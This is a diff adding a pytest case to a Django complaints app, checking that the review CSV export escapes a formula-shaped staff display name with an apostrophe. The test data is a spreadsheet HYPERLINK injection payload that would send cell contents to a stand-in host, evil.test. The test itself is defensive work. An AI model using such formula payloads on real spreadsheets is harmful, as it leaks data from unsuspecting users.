@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
@@ -225,6 +228,21 @@ def test_csv_has_no_patron_names_and_only_visible_rows(
     login(client, other_supervisor)
     other = client.get(reverse("complaints:review_csv"))
     assert complaint.reference not in b"".join(other.streaming_content).decode()
+
+
+def test_the_csv_writes_a_formula_shaped_name_as_text_and_still_streams(
+    client, escalated, director
+):
+    """A staff display name is typed by people: one that a spreadsheet would
+    run as a formula goes out behind the apostrophe the reports use."""
+    director.staff_profile.display_name = '=HYPERLINK("http://evil.test/?"&A2,"x")'
+    director.staff_profile.save()
+    response = login(client, director).get(reverse("complaints:review_csv"))
+    assert response.streaming and response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"] == 'attachment; filename="complaints.csv"'
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assignee = rows[0].index("assignee")
+    assert [row[assignee] for row in rows[1:]] == ['\'=HYPERLINK("http://evil.test/?"&A2,"x")']
 
 
 def test_desk_staff_cannot_open_the_review_desk(client, desk_staff):
